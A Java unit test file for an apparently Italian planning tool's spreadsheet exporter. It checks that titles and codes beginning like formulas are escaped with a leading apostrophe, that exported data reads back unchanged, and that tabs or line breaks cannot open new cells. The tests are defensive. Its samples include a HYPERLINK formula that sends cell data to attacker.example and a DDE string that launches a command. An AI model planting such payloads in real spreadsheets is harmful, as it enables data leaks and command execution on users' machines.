package it.traguardi.exchange.alberatura;

import static org.assertj.core.api.Assertions.assertThat;

import it.traguardi.core.plan.Plan;
import it.traguardi.core.plan.PlanEdits;
import it.traguardi.exchange.DemoData;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Issue 7 part 4: codes, titles and algorithms that a spreadsheet would run as formulas are exported
 * as text (docs/file-formats.md), read back as they were, and the seed's negative numbers stay numbers.
 */
class HostileTextExportTest {

    private static final String SEED = new String(DemoData.modena2022(), StandardCharsets.UTF_8);
    private static final String HYPERLINK = "=HYPERLINK(\"http://attacker.example/?\"&A1;\"Apri\")";
    private static final String DDE = "-2+3+cmd|' /C calc'!A0";

    /** The seed with texts that start like formulas, as another tool could have written them. */
    private static Plan hostilePlan() throws Exception {
        var lines = SEED.split("\n", -1);
        edit(lines, 7, "1 - Competitività delle imprese", HYPERLINK);
        edit(lines, 8, "301 - Internazionalizzazione", "+301 - Internazionalizzazione");
        edit(lines, 10, "301.50 - Fatturato export provinciale", "@SUM(A1:A9)");
        edit(lines, 10, "Valore esportazioni Driver Export", DDE);
        edit(lines, 11, "301.51 - Partecipanti", "-301.51 - Partecipanti");
        edit(lines, 13, "301.D1.1 - Incentivare", "''=Incentivare");
        edit(lines, 14, "≥ 800 N.", "= 800 N.");
        var text = String.join("\n", lines);
        return AlberaturaReader.read("ostile.tsv", text.getBytes(StandardCharsets.UTF_8), Overrides.NONE).plan();
    }

    private static void edit(String[] lines, int line, String from, String to) {
        assertThat(lines[line - 1]).contains(from);
        lines[line - 1] = lines[line - 1].replace(from, to);
    }

    @Test
    void texts_that_start_like_formulas_are_exported_with_the_text_mark() throws Exception {
        var rows = dataRows(AlberaturaWriter.write(hostilePlan()));

        assertThat(rows.get(0).get(1)).isEqualTo("'" + HYPERLINK);
        assertThat(rows.get(1).get(1)).isEqualTo("'+301 - Internazionalizzazione");
        assertThat(rows.get(3).get(1)).isEqualTo("'@SUM(A1:A9)");
        assertThat(rows.get(3).get(3)).isEqualTo("'" + DDE);
        assertThat(rows.get(4).get(1)).startsWith("'-301.51 - Partecipanti");
        assertThat(rows.get(6).get(1)).startsWith("''=Incentivare");
        assertThat(rows.get(7).get(8)).isEqualTo("'= 800 N.");
    }

    @Test
    void a_plan_whose_texts_start_like_formulas_reads_back_identical() throws Exception {
        var first = hostilePlan();
        var second = AlberaturaReader.read("export", AlberaturaWriter.write(first).getBytes(StandardCharsets.UTF_8),
                Overrides.NONE).plan();

        assertThat(first.areas().getFirst().title()).isEqualTo(HYPERLINK);
        assertThat(first.areas().getFirst().objectives().getFirst().code()).isEqualTo("+301");
        assertThat(first.indicators().findFirst().orElseThrow().definition().algorithm()).isEqualTo(DDE);
        assertThat(first.operationalObjectives().findFirst().orElseThrow().title()).startsWith("'=Incentivare");
        assertThat(second).isEqualTo(first);
    }

    @Test
    void no_exported_cell_starts_like_a_formula_and_the_seeds_negative_numbers_stay_numbers() throws Exception {
        var exported = AlberaturaWriter.write(hostilePlan());
        var cells = Arrays.stream(exported.split("\n")).flatMap(l -> Arrays.stream(l.split("\t", -1))).toList();

        assertThat(cells).noneMatch(c -> c.startsWith("=") || c.startsWith("+") || c.startsWith("@"));
        assertThat(cells.stream().filter(c -> c.startsWith("-")))
                .containsOnly("-20,14 gg", "-19,92 gg", "-22,74 gg");
        assertThat(exported).contains("\t-20,14 gg\t-19,92 gg\t-22,74 gg\t≤ -18 gg\t≤ -18 gg\t≤ -18 gg\t");
    }

    @Test
    void a_tab_or_line_break_inside_a_title_cannot_open_a_new_cell_or_row() throws Exception {
        var seed = AlberaturaReader.read("seed", DemoData.modena2022(), Overrides.NONE).plan();
        var area = seed.areas().getFirst();
        var edited = PlanEdits.edit(seed, area.id(), area.code(), "Competitività\t=1+1\r\n@SUM(A1)", area.weight());

        var exported = AlberaturaWriter.write(edited);
        var lines = exported.split("\n", -1);

        assertThat(lines).hasSameSizeAs(AlberaturaWriter.write(seed).split("\n", -1));
        assertThat(Arrays.stream(lines).filter(l -> l.contains("\t"))).allMatch(l -> l.split("\t", -1).length == 12);
        assertThat(dataRows(exported).getFirst().get(1)).isEqualTo("1 - Competitività =1+1  @SUM(A1)");
    }

    /** The data rows of an export (not the title, header and year lines), as lists of their 12 cells. */
    private static List<List<String>> dataRows(String text) {
        var out = new ArrayList<List<String>>();
        for (var line : text.split("\n")) {
            var f = line.split("\t", -1);
            if (f.length == 12 && !f[0].isBlank() && !f[0].equals("Ambito")) {
                out.add(List.of(f));
            }
        }
        return out;
    }
}
